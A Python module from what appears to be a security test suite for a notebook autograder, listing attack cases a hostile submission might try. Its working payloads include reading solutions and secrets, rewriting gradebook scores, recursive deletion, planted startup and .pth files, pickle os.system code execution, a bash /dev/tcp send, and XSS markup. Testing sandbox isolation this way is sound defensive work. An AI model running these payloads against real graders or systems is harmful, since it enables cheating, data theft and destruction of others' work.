"""Reading, writing, persisting. (r01 to r04, w01 to w08, o01, o02, o04, b13, b16, b17, b19)"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from attack_support import ALL, CHAPTER, Attack, Notebook, Place, all_answers

LOOK = """
import glob, os
def look(path):
    try:
        if os.path.isdir(path):
            print(path, sorted(os.listdir(path)))
            return ""
        with open(path, errors="replace") as file:
            text = file.read(2_000_000)
        print(path, text)
        return text
    except OSError as error:
        print(type(error).__name__)
        return ""
"""
READS = """
for path in ("@solutions@", "@seed_file@", "@home@/private.txt", "@other@",
             "@course@/nbgrader_config.py", "@course@", "@course@/solutions", "@course@/submitted", "@course@/reports",
             "@home@", "@gradebook@"):  # the long one last: what a cell shows is bounded
    look(path)
for path in glob.glob("@course@/*/*/*/*")[:50]:
    look(path)
"""
READS_MORE = """
for path in ("@real_home@", "@project@/solutions/@chapter@/@chapter@.ipynb", "@project@/tests", "@project@/.git/HEAD"):
    look(path)
for pattern in ("/*", "/home/*", "/root/*", "/mnt/*", "../*", "../../*", "/proc/*/environ", "/proc/*/cwd/*",
                "/proc/*/fd/*", "/proc/*/root/@course@/solutions/*/*.ipynb", "/dev/shm/*"):
    for path in glob.glob(pattern)[:30]:
        if not path.startswith(("/usr", "/bin", "/lib", "/sbin", "/proc/self/fd", f"/proc/{os.getpid()}/fd")):
            look(path)
print(os.environ)
"""
EXECUTES = """
import json
for path in ("@solutions@", "@project@/solutions/@chapter@/@chapter@.ipynb"):
    try:
        book = json.load(open(path))
    except OSError as error:
        print(error)
        continue
    for cell in book["cells"]:
        if cell["cell_type"] == "code" and not "".join(cell["source"]).startswith("ch01."):
            exec("".join(cell["source"]), globals())
"""
DATABASE = """
import sqlite3
for way in ("file:@gradebook@?mode=ro", "file:@gradebook@?mode=rw", "file:@gradebook@?immutable=1"):
    try:
        with sqlite3.connect(way, uri=True, timeout=1) as book:
            print("\\n".join(book.iterdump()))
    except sqlite3.Error as error:
        print(error)
"""
SENDS = """
import socket, subprocess
def send(family, kind, address):
    try:
        with socket.socket(family, kind) as client:
            client.settimeout(2)
            client.connect(address)
            client.sendall(b"@owned@ was here")
            print("sent")
    except OSError as error:
        print(error)
send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @tcp@))
send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @udp@))
send(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", @tcp@))
send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@abstract@")
subprocess.run(["bash", "-c", "echo @owned@ > /dev/tcp/127.0.0.1/@tcp@"])
"""
SENDS_TO_PATH = """
import socket
with socket.socket(socket.AF_UNIX) as client:
    client.settimeout(2)
    client.connect("@path_socket@")
    client.sendall(b"@owned@ was here")
"""
SCORES = """
import sqlite3
book = sqlite3.connect("@gradebook@", timeout=1)
book.execute("update grade set manual_score = 0, needs_manual_grade = 0")
book.execute("update grade set manual_score = 1000 where notebook_id in (select id from submitted_notebook)")
book.commit()
"""
LOCKS = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import sqlite3, time  # @owned@
book = sqlite3.connect("@gradebook@", isolation_level=None)
book.execute("begin exclusive")
time.sleep(600)
'''], start_new_session=True)
"""
TRUNCATES = """
import os, shutil
for path in ("@gradebook@", "@gradebook@-journal", "@gradebook@-wal", "@course@/grades.csv",
             "@course@/reports/@chapter@/.lock"):
    try:
        os.truncate(path, 0)
    except OSError as error:
        print(error)
    try:
        os.unlink(path)
    except OSError as error:
        print(error)
shutil.rmtree("@course@/reports", ignore_errors=True)
"""
OVERWRITES = """
import glob, os
for path in ["@other@", *glob.glob("@course@/submitted/*/*/*.ipynb"), *glob.glob("@course@/autograded/*/*/*.ipynb")]:
    try:
        open(path, "w").write("{}")
    except OSError as error:
        print(error)
"""
DELETES = """
import os, shutil, subprocess
for folder in (".", os.path.expanduser("~"), "@course@", "@home@", "/dev/shm"):
    for name in os.listdir(folder) if os.path.isdir(folder) and os.access(folder, os.R_OK) else []:
        shutil.rmtree(os.path.join(folder, name), ignore_errors=True)
        try:
            os.unlink(os.path.join(folder, name))
        except OSError:
            pass
"""
STARTUP = """
import os, pathlib
for home in (os.path.expanduser("~"), "@real_home@", "@home@"):
    for folder in (".ipython/profile_default/startup", ".config", ".local/lib/python3.11/site-packages", "."):
        path = pathlib.Path(home, folder, "@owned@.py")
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("# @owned@")
        except OSError as error:
            print(error)
os.environ["PYTHONSTARTUP"] = os.environ["BASH_ENV"] = "@owned@.py"
"""
PACKAGES = """
import os, sys, glob
cache = {os.path.dirname(m.__cached__) for m in list(sys.modules.values()) if getattr(m, "__cached__", None)}
for folder in ["@packages@", sys.prefix, "@real_home@/.cache/intermediate-pytorch/sandbox/pycache", *sys.path, *cache]:
    for name in ("@owned@.pth", "@owned@.pyc", "sitecustomize_@owned@.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("# @owned@")
        except OSError as error:
            print(error)
"""
CHECKS = """
import os, grader
for path in (ch01.__file__, grader.__file__, "@project@/grader/chapters/ch01.py", "@solutions@",
             "@course@/notebooks/@chapter@/@chapter@.ipynb", "@course@/nbgrader_config.py"):
    try:
        open(path, "a").write("\\n# @owned@\\n")
    except OSError as error:
        print(error)
"""
PICKLES = """
import os, pickle
class Code:
    def __reduce__(self):
        return os.system, ("touch @course@/@owned@ @home@/@owned@; echo @owned@",)
for name in ("results.pkl", "results.json", ".OTTER_LOG", "submission.pkl"):
    open(name, "wb").write(pickle.dumps(Code()))
"""
PICKLES_TO_SOCKET = """
import os, pickle, socket, stat, struct
class Code:
    def __reduce__(self):
        return os.system, ("touch @course@/@owned@ @home@/@owned@",)
body = pickle.dumps(Code())
for number in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, struct.pack("!I", len(body)) + body)
    except OSError:
        pass
"""
MARKUP = """
bad = "<script>attack()</script><img src=x onerror=attack()><iframe src=attack></iframe><b onclick=attack()>x</b>"
display({"text/html": bad, "text/plain": bad, "image/svg+xml": f"<svg>{bad}</svg>",
         "application/javascript": "attack()", "text/markdown": bad, "text/latex": "$\\\\href{javascript:attack()}{x}$",
         "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
         "image/png": "<script>attack()</script>", "image/jpeg": bad}, raw=True)
print(bad, "\\x1b]8;;javascript:attack()\\x07x\\x1b]8;;\\x07")
raise type("E" + bad, (Exception,), {})(bad)
"""


def pickled_output(book: Notebook) -> Notebook:
    book["cells"][0]["outputs"] = [
        {
            "output_type": "display_data",
            "data": {"application/x-pickle": "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAl0b3VjaCAvdG1wlIWUUpQu"},
            "metadata": {},
        }
    ]
    return book


def link_to_solutions(place: Place, folder: Path) -> None:
    (folder / CHAPTER.notebook).symlink_to(place.solutions)


def markup(book: Notebook) -> Notebook:
    bad = "<script>attack()</script> <img src=x onerror=attack()> [x](javascript:attack()) `</pre><b onclick=attack()>`"
    fence = f"```\n{bad}\n```\n~~~\n{bad}\n````text\n</code></pre>{bad}\n"
    note: dict[str, Any] = {"cell_type": "markdown", "metadata": {}, "source": f"{bad}\n\n{fence}"}
    raw: dict[str, Any] = {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": bad}
    attached = {**note, "attachments": {"x.svg": {"image/svg+xml": "PHN2Zy8+"}}}
    return {**book, "cells": [*book["cells"], note, raw, attached], "metadata": {"title": bad, "authors": [bad]}}


ATTACKS = (
    Attack("r01", "prints the instructor's files", cells=(LOOK, READS, READS_MORE)),
    Attack("r02", "executes the solution cells out of the course folder", base="starter",
           answers=all_answers(EXECUTES)),
    Attack("r03", "reads the gradebook", cells=(DATABASE,)),
    Attack("r04", "sends to listeners on loopback", cells=(SENDS,)),
    Attack("r04-path", "sends to a unix socket that has a path", cells=(SENDS_TO_PATH,),
           reaches_socket_on=("landlock",)),
    Attack("w01", "gives itself scores in the gradebook, and the others none", cells=(SCORES,)),
    Attack("w02", "leaves a lock on the gradebook, held by a child process", cells=(LOCKS,)),
    Attack("w03", "truncates and deletes the gradebook and the reports", cells=(TRUNCATES,)),
    Attack("w04", "overwrites other students' submissions", cells=(OVERWRITES,)),
    Attack("w05", "deletes the files of its folder, its home and the course", base="solved", last=(DELETES,),
           points=ALL),
    Attack("w06", "leaves startup files in home folders", cells=(STARTUP,)),
    Attack("w07", "leaves .pth and .pyc files in Python's folders", cells=(PACKAGES,)),
    Attack("w08", "edits the checks in the grader's own folder", cells=(CHECKS,)),
    Attack("o01", "leaves pickles where a grader would load results from", cells=(PICKLES,)),
    Attack("o02", "writes a pickle to the socket that it finds", cells=(PICKLES_TO_SOCKET,), notes=True),
    Attack("o04", "leaves a startup file for the next, empty submission", base="starter", cells=(STARTUP,)),
    Attack("o04-next", "the empty submission that comes after it", base="starter"),
    Attack("b13", "has a pickle among the outputs of its notebook", edit=pickled_output),
    Attack("b16", "ships modules with the names of the grader's and Jupyter's beside the notebook",
           files={f"{name}.py": "open('@course@/@owned@', 'w')\nraise SystemExit('@owned@')"
                  for name in ("ipykernel_launcher", "sitecustomize", "torch", "grader", "numpy", "json", "conftest")}),
    Attack("b17", "is a link to the instructor's notebook", place=link_to_solutions, state="not gradable"),
    Attack("b19", "shows HTML, scripts, SVG and links in outputs, texts and errors", cells=(MARKUP,), edit=markup),
    Attack("b19-feedback", "puts markup into what the feedback quotes: errors, names, printed text, values",
           cells=('bad = "<script>attack()</script> `<img src=x onerror=attack()>` <b onclick=attack()>"',),
           answers=all_answers(
               "def @name@(*a, **k):\n    print(bad)\n    raise type('X' + bad, (ValueError,), {})(bad)"
           )),
    Attack("b19-values", "answers with text and keys that hold markup", cells=(
           'bad = "<script>attack()</script><img src=x onerror=attack()>"',),
           answers=all_answers("def @name@(*a, **k):\n    return {bad: bad, 1: [bad, type(bad, (), {})()]}")),
)  # fmt: skip
